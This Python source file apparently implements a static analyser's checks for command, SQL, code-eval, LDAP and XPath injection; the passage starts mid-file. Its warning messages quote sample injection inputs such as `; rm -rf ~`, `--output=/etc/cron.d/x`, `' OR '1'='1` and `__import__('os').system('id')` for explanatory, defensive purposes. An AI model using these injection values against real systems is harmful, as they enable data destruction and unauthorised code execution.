    "dir", "copy", "del", "erase", "ren", "rename", "cls", "md", "mkdir", "rd", "rmdir", "move", "mklink",
    "start", "ver", "vol", "echo", "call", "assoc", "ftype", "path", "prompt", "title",
    "verify", "color", "date", "endlocal", "setlocal", "goto", "pause", "chdir",
}


def _literal_fix(ctx: CheckContext, call: ast.Call, command: ast.expr, shell_kw: ast.keyword):
    if not isinstance(command, ast.Constant) or not isinstance(command.value, str):
        return None
    if ctx.has_kwargs_splat(call) or ctx.keyword(call, "executable") is not None:
        return None
    if ctx.call_name(call) not in _SUBPROCESS:
        return None
    text = command.value
    if not text.strip() or any(ch in _METACHARACTERS for ch in text):
        return None
    words = text.split()
    if words[0].lower() in _SHELL_BUILTINS:
        return None
    source = ctx.text(command)
    quote = "'" if source.lstrip("rRuU").startswith("'") else '"'
    items = ", ".join(f"{quote}{w}{quote}" for w in shlex.split(text))
    return ctx.fix(
        "Run without a shell: pass an argument list",
        ctx.replace(command, f"[{items}]"),
        ctx.remove_keyword(call, shell_kw),
    )


@check("PY-CMD-SHELL-LITERAL", ast.Call)
def constant_command_through_shell(node: ast.Call, ctx: CheckContext) -> None:
    name = ctx.call_name(node)
    if name in _SUBPROCESS:
        kw = ctx.keyword(node, "shell")
        if kw is None or not _shell_is_true(ctx, node):
            return
        anchor: ast.AST = kw
    elif name in _ALWAYS_SHELL:
        kw = None
        anchor = node.func
    else:
        return
    command = ctx.argument(node, 0, "args" if name in _SUBPROCESS else "cmd")
    if command is None:
        return
    values = _values(ctx)
    elements = values.list_elements(command) if isinstance(command, (ast.List, ast.Tuple)) else None
    if elements is not None:
        if not all((values.element_shape(e, "shell", 0) if s else values.shape(e, "shell")).is_static for e, s in elements):
            return
    elif not values.shape(command, "shell").is_static:
        return
    fix = _literal_fix(ctx, node, command, kw) if kw is not None else None
    ctx.report(anchor, fix=fix)


# -- PY-CMD-OS-SYSTEM ----------------------------------------------------------------------------


@check("PY-CMD-OS-SYSTEM", ast.Call)
def os_system(node: ast.Call, ctx: CheckContext) -> None:
    name = ctx.call_name(node)
    spec = _OS_SHELL.get(name)
    if spec is None:
        command = _wrapper_argument(ctx, _values(ctx), node, "os")
        runs = f"{name}() passes its argument to a shell"
    else:
        command = ctx.argument(node, *spec)
        runs = f"{name}() runs its argument through a shell"
    if command is None or isinstance(command, (ast.List, ast.Tuple)):
        return
    bad = _shell_unsafe(_values(ctx).shape(command, "shell"), command)
    if not bad or _params_always_safe(ctx, _values(ctx), bad, "shell"):
        return
    source = ctx.taint(command, "cmd")
    origin = "request data" if source is not None else f"`{_describe(ctx, bad[0])}`"
    ctx.report(
        command,
        message=(
            f"{runs}, and the command is built from {origin}: a value "
            "such as `; rm -rf ~` runs extra commands. Use subprocess.run([...]) with an argument list."
        ),
        related=ctx.related(source),
    )


# -- PY-CMD-EXEC-TAINTED -------------------------------------------------------------------------

# call -> (program position, how the arguments are passed, where they start)
_EXEC_FUNCTIONS = {
    **{f"os.{n}": (0, "list", 1) for n in ("execv", "execve", "execvp", "execvpe")},
    **{f"os.{n}": (0, "varargs", 1) for n in ("execl", "execlp")},
    **{f"os.{n}": (0, "varargs-env", 1) for n in ("execle", "execlpe")},
    **{f"os.{n}": (1, "list", 2) for n in ("spawnv", "spawnve", "spawnvp", "spawnvpe")},
    **{f"os.{n}": (1, "varargs", 2) for n in ("spawnl", "spawnlp")},
    **{f"os.{n}": (1, "varargs-env", 2) for n in ("spawnle", "spawnlpe")},
    "os.posix_spawn": (0, "list", 1),
    "os.posix_spawnp": (0, "list", 1),
    "os.startfile": (0, "none", 0),
    "pty.spawn": (None, "list", 0),
    "asyncio.create_subprocess_exec": (0, "varargs", 0),
}


def _exec_argv(ctx: CheckContext, call: ast.Call) -> ast.expr | None:
    """For exec-style calls: an expression holding the whole argv (program first), when there is one."""
    spec = _EXEC_FUNCTIONS.get(ctx.call_name(call))
    if spec is None:
        return None
    program, style, start = spec
    if style == "list":
        return ctx.argument(call, start)
    if style.startswith("varargs") and program is not None:
        args = call.args[program:]
        if style == "varargs-env":
            args = args[:-1]
        if ctx.call_name(call) != "asyncio.create_subprocess_exec":
            args = args[:1] + args[2:]  # execl(path, arg0, arg1...): arg0 is only a name
        return ast.List(elts=list(args), ctx=ast.Load())
    return None


def _argument_injection(ctx: CheckContext, values: _Values, elements: list[tuple[ast.expr, bool]], start: int) -> tuple[ast.expr, object] | None:
    """A request value in argument position that could start with '-' (no '--' before it)."""
    for index, (element, splat) in enumerate(elements):
        if index < start:
            continue
        constant = ctx.constant(element)
        if constant in ("--", "--end-of-options"):
            return None
        if isinstance(constant, str):
            continue
        # "argv": no shell, so shlex.quote() does not help, and a startswith() check of the value
        # (`ref.startswith("-")`, `repo.startswith(ALLOWED_HOSTS)`) does.
        source = ctx.taint(element, "argv")
        if source is None:
            continue
        if not splat:
            shape = values.shape(element, "shell")
            prefix = re.split(r"[\0\1\2\3\4]", shape.text, maxsplit=1)[0]
            if prefix or shape.text.startswith(TRUSTED):
                continue  # "--ref=" + x, f"{UPLOAD_DIR}/{name}": cannot become an option of its own
        return element, source
    return None


@check("PY-CMD-EXEC-TAINTED", ast.Call)
def exec_with_request_data(node: ast.Call, ctx: CheckContext) -> None:
    name = ctx.call_name(node)
    values = _values(ctx)
    if name in _SUBPROCESS:
        if _shell_is_true(ctx, node):
            return
        kw = ctx.keyword(node, "shell")
        if kw is not None and ctx.constant(kw.value) is ctx.UNKNOWN:
            return
        argv = ctx.argument(node, 0, "args")
        executable = ctx.argument(node, None, "executable")
        if executable is not None:
            source = ctx.taint(executable, "cmd")
            if source is not None:
                ctx.report(executable, message=_PROGRAM_MESSAGE, related=ctx.related(source))
                return
        program_index, arg_start = 0, 1
    elif name in ("anyio.run_process", "anyio.open_process"):
        argv = ctx.argument(node, 0, "command")
        if argv is None or not isinstance(argv, (ast.List, ast.Tuple, ast.Name)) or values.list_elements(argv) is None:
            return
        program_index, arg_start = 0, 1
    elif name in _EXEC_FUNCTIONS:
        program_pos, style, _start = _EXEC_FUNCTIONS[name]
        if program_pos is not None:
            program = ctx.argument(node, program_pos)
            source = ctx.taint(program, "cmd") if program is not None else None
            if source is not None:
                ctx.report(program, message=_PROGRAM_MESSAGE, related=ctx.related(source))
                return
        if style == "none":
            return
        argv = _exec_argv(ctx, node)
        if name == "pty.spawn":
            program_index, arg_start = 0, 1
        else:
            program_index, arg_start = None, 1
    else:
        return
    if argv is None:
        return
    elements = values.list_elements(argv)
    synthetic = not hasattr(argv, "lineno")
    if elements is None:
        # A string (the program, without a shell) or a list built elsewhere: all of it is the command.
        source = ctx.taint(argv, "cmd")
        if source is not None:
            ctx.report(argv, message=_PROGRAM_MESSAGE, related=ctx.related(source))
        return
    if _script_element(ctx, elements) is not None:
        return  # ["bash", "-c", script]: PY-CMD-SHELL's business
    if program_index is not None and elements:
        program, _splat = elements[0]
        source = ctx.taint(program, "cmd")
        if source is not None:
            target = program if (isinstance(argv, (ast.List, ast.Tuple)) or synthetic) else argv
            ctx.report(target, message=_PROGRAM_MESSAGE, related=ctx.related(source))
            return
    hit = _argument_injection(ctx, values, elements, arg_start)
    if hit is None:
        return
    element, source = hit
    target = element if (isinstance(argv, (ast.List, ast.Tuple)) or synthetic) else argv
    ctx.report(
        target,
        message=(
            f"Request data `{_describe(ctx, element)}` is passed as a command-line argument: a value starting "
            "with `-` (e.g. `--output=/etc/cron.d/x`) is read as an option. Validate it, or put \"--\" before it."
        ),
        related=ctx.related(source),  # type: ignore[arg-type]
    )


_PROGRAM_MESSAGE = (
    "The program to run comes from request data: an attacker chooses what executes on the server. "
    "Map the request to a fixed program (an allow-list) instead."
)


# -- PY-CMD-PARAMIKO ---------------------------------------------------------------------------


def _imports_paramiko_like(ctx: CheckContext) -> bool:
    return any(ctx.imports(m) for m in ("paramiko", "fabric", "pssh", "spur"))


@check("PY-CMD-PARAMIKO", ast.Call)
def paramiko_exec_command(node: ast.Call, ctx: CheckContext) -> None:
    if ctx.method_name(node) != "exec_command":
        # `def run(self, cmd): ...exec_command(cmd)` then `self.run(f"sbatch {name}")`: the wrapper's call is reported
        if not _imports_paramiko_like(ctx) or not isinstance(node.func, (ast.Name, ast.Attribute)):
            return
        command = _wrapper_argument(ctx, _values(ctx), node, "paramiko")
    else:
        command = ctx.argument(node, 0, "command")
        func = enclosing_function(node)
        if (
            isinstance(command, ast.Name) and isinstance(func, (ast.FunctionDef, ast.AsyncFunctionDef))
            and command.id in {a.arg for a in [*func.args.posonlyargs, *func.args.args, *func.args.kwonlyargs]}
            and _wrapper_param(ctx, _values(ctx), func, "paramiko") == command.id
            and _call_sites(ctx, _values(ctx), func)
        ):
            return  # a wrapper: its callers are checked, where the command is built
    if command is None:
        return
    bad = _shell_unsafe(_values(ctx).shape(command, "shell"), command)
    if not bad or _params_always_safe(ctx, _values(ctx), bad, "shell"):
        return
    source = ctx.taint(command, "cmd")
    origin = "request data" if source is not None else f"`{_describe(ctx, bad[0])}`"
    ctx.report(
        command,
        message=(
            f"exec_command() runs its command in the remote user's shell, and the command is built from {origin}: "
            "`; rm -rf ~` would run on the server. shlex.quote() every value, or validate it against an allow-list."
        ),
        related=ctx.related(source),
    )


# -- SQL -----------------------------------------------------------------------------------------

_SQL_STATEMENT = re.compile(
    r"""^[\s(]*(
        select\b | insert\s | update\s | delete\s | replace\s+into\b | merge\s+into\b | upsert\s |
        create\s | drop\s | alter\s | truncate\s | grant\s | revoke\s | pragma\s | explain\s | vacuum\b |
        with\s+(recursive\s+)?\w+\s*(\([^)]*\)\s*)?as\s*\( | set\s+\w+\s*(=|to\b) | show\s+(tables|columns|databases|index|create|grants)\b |
        copy\s+[\w."]+\s+(from|to)\b | call\s+\w+\s*\( | exec(ute)?\s+\w+
    )""",
    re.IGNORECASE | re.VERBOSE,
)
_SQL_CLAUSE = re.compile(
    r"""\bselect\b[\s\S]+?\bfrom\b | \binsert\s+(or\s+\w+\s+)?into\b | \bupdate\b[\s\S]+?\bset\b |
        \bdelete\s+from\b | \b(create|drop|alter|truncate)\s+(temp\w*\s+)?(table|index|view|database|schema|user|trigger|sequence)\b |
        \bwhere\b[\s\S]*?(=|<|>|\blike\b|\bin\b|\bis\b|\bbetween\b|\bexists\b|\0) | \border\s+by\b | \bgroup\s+by\b |
        \bvalues\s*\( | \bjoin\b[\s\S]+?\bon\b | \blimit\s+[\d\0]""",
    re.IGNORECASE | re.VERBOSE,
)


def _looks_like_sql(text: str) -> bool:
    for alternative in text.split(ALT):
        if _SQL_STATEMENT.search(alternative) or _SQL_CLAUSE.search(alternative):
            return True
    return False


_SQL_METHODS = {
    "execute", "executemany", "executescript", "exec_driver_sql", "execute_sql", "fetch", "fetchrow", "fetchval",
    "fetch_all", "fetch_one", "fetch_val", "execute_many", "iterate", "read_sql", "read_sql_query",
    # boto3: DynamoDB PartiQL, Redshift Data API / RDS Data API, Athena
    "execute_statement", "start_query_execution",
}
_SQL_FUNCTIONS = {
    "sqlalchemy.text", "sqlalchemy.sql.text", "sqlalchemy.sql.expression.text", "sqlalchemy.sql.expression.TextClause",
    "pandas.read_sql", "pandas.read_sql_query", "pandas.io.sql.read_sql", "pandas.io.sql.read_sql_query",
    "psycopg2.sql.SQL", "psycopg.sql.SQL", "sqlalchemy.literal_column", "sqlalchemy.sql.literal_column",
}
_QUERY_KEYWORDS = ("sql", "query", "statement", "operation", "stmt", "text", "Statement", "Sql", "QueryString")


def _sql_sink(ctx: CheckContext, call: ast.Call) -> ast.expr | None:
    name = ctx.call_name(call)
    method = ctx.method_name(call)
    if name in _SQL_FUNCTIONS or (method in _SQL_METHODS and name.split(".")[0] not in ("re", "subprocess", "os")):
        if method == "iterate" and not ctx.imports("databases"):
            return None
        if method in ("fetch", "iterate") and not call.args and not call.keywords:
            return None
        for keyword in _QUERY_KEYWORDS:
            value = ctx.argument(call, None, keyword)
            if value is not None:
                return value
        return ctx.argument(call, 0)
    return None


def _sql_report(ctx: CheckContext, query: ast.expr, shape: Shape, what: str) -> None:
    if _params_always_safe(ctx, _values(ctx), shape.unsafe, "sql"):
        return
    part = shape.unsafe[0] if shape.unsafe else query
    source = ctx.taint(query, "sql")
    origin = "request data" if source is not None else f"`{_describe(ctx, part)}`"
    ctx.report(
        query,
        message=(
            f"{what} is built by inserting {origin} into the SQL text: a value such as `' OR '1'='1` "
            "changes the query. Pass values as parameters (`?` sqlite3, `%s` psycopg2/MySQL, `:name` SQLAlchemy)."
        ),
        related=ctx.related(source),
    )


@check("PY-SQL-STRING", ast.Call)
def sql_string(node: ast.Call, ctx: CheckContext) -> None:
    query = _sql_sink(ctx, node) or _wrapper_argument(ctx, _values(ctx), node, "sql")
    if query is None:
        return
    values = _values(ctx)
    shape = values.shape(query, "sql")
    if not shape.has_unsafe:
        return
    always_sql = ctx.call_name(node) in _SQL_FUNCTIONS and not ctx.call_name(node).startswith("pandas.")
    if not always_sql and not _looks_like_sql(shape.text):
        return
    if _params_always_safe(ctx, values, shape.unsafe, "sql"):
        return
    _sql_report(ctx, query, shape, "This query")


_RAWSQL = {"django.db.models.expressions.RawSQL", "django.db.models.RawSQL", "RawSQL"}


@check("PY-SQL-DJANGO-RAW", ast.Call)
def django_raw_sql(node: ast.Call, ctx: CheckContext) -> None:
    values = _values(ctx)
    name = ctx.call_name(node)
    method = ctx.method_name(node)
    if name in _RAWSQL or name.endswith(".RawSQL"):
        sql = ctx.argument(node, 0, "sql")
        if sql is not None:
            shape = values.shape(sql, "sql")
            if shape.has_unsafe:
                _sql_report(ctx, sql, shape, "RawSQL")
        return
    if method == "raw":
        sql = ctx.argument(node, 0, "raw_query")
        if sql is None:
            return
        shape = values.shape(sql, "sql")
        receiver = ctx.qualname(node.func.value) or ""  # type: ignore[union-attr]
        is_manager = receiver.endswith(("objects", "_default_manager", "_base_manager")) or ".objects." in receiver
        if shape.has_unsafe and (is_manager or _looks_like_sql(shape.text)):
            _sql_report(ctx, sql, shape, "This raw() query")
        return
    if method == "extra" and (ctx.imports("django") or ".objects" in (ctx.qualname(node.func) or "")):
        names = ("select", "where", "params", "tables", "order_by", "select_params")
        for position, keyword in enumerate(names):
            if keyword in ("params", "select_params"):
                continue
            value = ctx.argument(node, position, keyword)
            if value is None:
                continue
            for item in _sql_fragments(values, value):
                shape = values.shape(item, "sql")
                if shape.has_unsafe:
                    _sql_report(ctx, item, shape, f"extra({keyword}=...)")
                    return


def _sql_fragments(values: _Values, value: ast.expr) -> list[ast.expr]:
    if isinstance(value, ast.Dict):
        return [v for v in value.values if v is not None]
    elements = values.list_elements(value)
    if elements is not None:
        if isinstance(value, (ast.List, ast.Tuple)):
            return [e for e, _ in elements]
        return [value] if any(values.shape(e, "sql").has_unsafe for e, _ in elements) else []
    return [value]


# -- code -----------------------------------------------------------------------------------------

_EVAL = {"eval": 0, "exec": 0, "builtins.eval": 0, "builtins.exec": 0, "compile": 0, "builtins.compile": 0}


@check("PY-CODE-EVAL", ast.Call)
def eval_dynamic(node: ast.Call, ctx: CheckContext) -> None:
    name = ctx.call_name(node)
    if name not in _EVAL:
        return
    if isinstance(node.func, ast.Name):
        _, bindings = _values(ctx).bindings_of(node.func)
        if bindings and not all(b.kind == "import" for b in bindings):
            return  # a local function or variable named eval/exec/compile
    source = ctx.argument(node, 0, "source")
    if source is None:
        return
    base = name.rsplit(".", 1)[-1]
    values = _values(ctx)
    if base != "compile" and isinstance(source, ast.Call) and ctx.call_name(source) in ("compile", "builtins.compile"):
        return  # compile() itself is checked
    if base != "compile" and isinstance(source, ast.Name):
        _, bindings = values.bindings_of(source)
        if bindings and all(
            b.kind == "assign" and isinstance(b.value, ast.Call) and ctx.call_name(b.value) in ("compile", "builtins.compile")
            for b in bindings
        ):
            return
    if base == "compile":
        mode = ctx.argument(node, 2, "mode")
        if mode is not None and ctx.constant(mode) not in ("exec", "eval", "single", ctx.UNKNOWN):
            return
    shape = values.shape(source, "code")
    if not shape.has_unsafe or _params_always_safe(ctx, values, shape.unsafe, "code"):
        return
    taint = ctx.taint(source, "code")
    origin = "request data" if taint is not None else f"`{_describe(ctx, shape.unsafe[0] if shape.unsafe else source)}`"
    ctx.report(
        source,
        message=(
            f"{base}() runs Python code built from {origin}: whoever controls it runs any code, e.g. "
            "`__import__('os').system('id')`. Parse data with ast.literal_eval() or json.loads(), or dispatch through a dict."
        ),
        related=ctx.related(taint),
    )


_IMPORTERS = {"importlib.import_module": (0, "name"), "__import__": (0, "name"), "importlib.__import__": (0, "name"), "builtins.__import__": (0, "name")}


@check("PY-CODE-DYNAMIC-IMPORT", ast.Call)
def dynamic_import(node: ast.Call, ctx: CheckContext) -> None:
    name = ctx.call_name(node)
    values = _values(ctx)
    if name in _IMPORTERS:
        target = ctx.argument(node, *_IMPORTERS[name])
        if target is None:
            return
        source = ctx.taint(target, "code")
        if source is None:
            return
        shape = values.shape(target, "code")
        prefix = re.split(r"[\0\1\2\3\4]", shape.text, maxsplit=1)[0]
        if prefix.endswith(".") and not prefix.startswith("."):
            return  # f"myapp.plugins.{name}": limited to the application's own package
        ctx.report(
            target,
            message=(
                "The module to import comes from request data: importing runs the module's code, and any "
                "installed module (`os`, `subprocess`...) becomes reachable. Map allowed names to modules in a dict."
            ),
            related=ctx.related(source),
        )
        return
    if name == "getattr" and len(node.args) >= 2:
        obj, attr = node.args[0], node.args[1]
        source = ctx.taint(attr, "code")
        if source is None:
            return
        shape = values.shape(attr, "code")
        if not shape.text.startswith(UNSAFE):
            return  # getattr(self, "handle_" + action): only methods with that prefix
        obj_name = ctx.qualname(obj) or ""
        is_module = False
        if isinstance(obj, ast.Name):
            _, bindings = values.bindings_of(obj)
            is_module = any(b.kind == "import" for b in bindings) or obj.id == "builtins"
        elif isinstance(obj, ast.Call):
            is_module = ctx.call_name(obj) in _IMPORTERS or obj_name in ("globals()", "sys.modules()")
        called = isinstance(ctx.parent(node), ast.Call) and ctx.parent(node).func is node  # type: ignore[union-attr]
        if is_module or called:
            ctx.report(
                attr,
                message=(
                    "The attribute to look up comes from request data: the client picks which function or class "
                    "runs. Dispatch through a dict of allowed handlers instead."
                ),
                related=ctx.related(source),
            )
        return
    if isinstance(node.func, ast.Subscript):
        container = node.func.value
        if isinstance(container, ast.Call) and ctx.call_name(container) in ("globals", "locals", "vars"):
            source = ctx.taint(node.func.slice, "code")
            if source is not None:
                ctx.report(node.func.slice, message=(
                    "The function to call is looked up in globals() by a name from request data: the client "
                    "can call any function of the module. Dispatch through a dict of allowed handlers instead."
                ), related=ctx.related(source))


# -- LDAP and XPath ------------------------------------------------------------------------------

_LDAP_FILTER = re.compile(r"\(\s*[!&|]?\s*\(?[\w.;-]*\s*[~<>]?=")


@check("PY-LDAP-INJECTION", ast.Call)
def ldap_filter(node: ast.Call, ctx: CheckContext) -> None:
    method = ctx.method_name(node)
    if method not in ("search", "search_s", "search_st", "search_ext", "search_ext_s", "paged_search", "search_paged"):
        return
    if not (ctx.imports("ldap") or ctx.imports("ldap3") or ctx.imports("django_auth_ldap")):
        return
    name = ctx.call_name(node)
    if name.startswith(("re.", "regex.")):
        return
    filter_expr = ctx.argument(node, None, "filterstr") or ctx.argument(node, None, "search_filter")
    if filter_expr is None:
        scope = ctx.argument(node, 1)
        scope_name = (ctx.qualname(scope) or "") if scope is not None else ""
        python_ldap = "SCOPE_" in scope_name or method != "search" or isinstance(ctx.constant(scope), int)
        filter_expr = ctx.argument(node, 2 if python_ldap else 1)
    if filter_expr is None:
        return
    shape = _values(ctx).shape(filter_expr, "ldap")
    if not shape.has_unsafe or not _LDAP_FILTER.search(shape.text.replace(ALT, " ")):
        return
    _report_built(
        ctx, filter_expr, shape, "ldap",
        "This LDAP filter is built from {origin} without escaping: a value such as `*)(uid=*))(|(uid=*` "
        "matches other entries. Wrap each value in escape_filter_chars() or use ldap.filter.filter_format().",
    )


def _report_built(ctx: CheckContext, expr: ast.AST, shape, kind: str, message: str, taint_kind: str | None = None) -> None:
    """Report a query or expression built from unsafe parts, naming where they come from in ``message``'s {origin}."""
    if _params_always_safe(ctx, _values(ctx), shape.unsafe, kind):
        return
    source = ctx.taint(expr, taint_kind or kind)
    origin = "request data" if source is not None else f"`{_describe(ctx, shape.unsafe[0] if shape.unsafe else expr)}`"
    ctx.report(expr, message=message.format(origin=origin), related=ctx.related(source))


_BIND_METHODS = {"simple_bind_s", "simple_bind", "bind_s", "bind"}
_DN_LIKE = re.compile(r"\b(uid|cn|ou|dc|o|mail|sAMAccountName|userPrincipalName)\s*=", re.IGNORECASE)


@check("PY-LDAP-INJECTION", ast.Call)
def ldap_bind_dn(node: ast.Call, ctx: CheckContext) -> None:
    """A bind DN built from a user name: `uid=*` or `,ou=admins` changes whose entry authenticates."""
    if not (ctx.imports("ldap") or ctx.imports("ldap3")):
        return
    method = ctx.method_name(node)
    if method in _BIND_METHODS:
        dn = ctx.argument(node, 0, "who")
    elif ctx.call_name(node) in ("ldap3.Connection", "ldap3.core.connection.Connection"):
        dn = ctx.argument(node, 1, "user")
    else:
        return
    if dn is None:
        return
    shape = _values(ctx).shape(dn, "ldapdn")
    if not shape.has_unsafe or not _DN_LIKE.search(shape.text.replace(ALT, " ")):
        return
    _report_built(
        ctx, dn, shape, "ldapdn",
        "This bind DN is built from {origin} without escaping: a name with `,`, `=` or `+` can point the "
        "bind at another entry. Escape it with ldap.dn.escape_dn_chars() (ldap3: escape_rdn()), or look the "
        "entry up with an escaped search filter and bind with the DN it returns.",
        taint_kind="ldap",
    )


_XPATH_LIKE = re.compile(r"\[|//|@|\b(text|contains|starts-with|normalize-space|concat)\s*\(|/\w|^\.")


@check("PY-XPATH-INJECTION", ast.Call)
def xpath_expression(node: ast.Call, ctx: CheckContext) -> None:
    name = ctx.call_name(node)
    method = ctx.method_name(node)
    expression = None
    if method == "xpath" or name in ("lxml.etree.XPath", "lxml.etree.ETXPath", "lxml.etree.XPathEvaluator"):
        expression = ctx.argument(node, 0, "_path") or ctx.argument(node, None, "path")
    elif method in ("find", "findall", "iterfind", "findtext") and (
        ctx.imports("xml.etree") or ctx.imports("lxml") or ctx.imports("defusedxml")
    ):
        if name.startswith(("re.", "regex.", "bs4.")):
            return
        expression = ctx.argument(node, 0, "path")
    elif name in ("elementpath.select", "elementpath.iter_select") and len(node.args) >= 2:
        expression = node.args[1]
    if expression is None:
        return
    shape = _values(ctx).shape(expression, "xpath")
    if not shape.has_unsafe:
        return
    literal = shape.text.replace(ALT, " ")
    if method != "xpath" and not re.search(r"\[\s*@|\[\s*[\w.:-]+\s*=|/", literal):
        return  # str.find(x) and friends: an ElementTree path has steps or predicates
    if not _XPATH_LIKE.search(literal):
        return
    _report_built(
        ctx, expression, shape, "xpath",
        "This XPath expression is built from {origin}: a value such as `' or '1'='1` selects every node. "
        "Pass the value as an XPath variable: tree.xpath(\"//user[@name=$name]\", name=value).",
    )
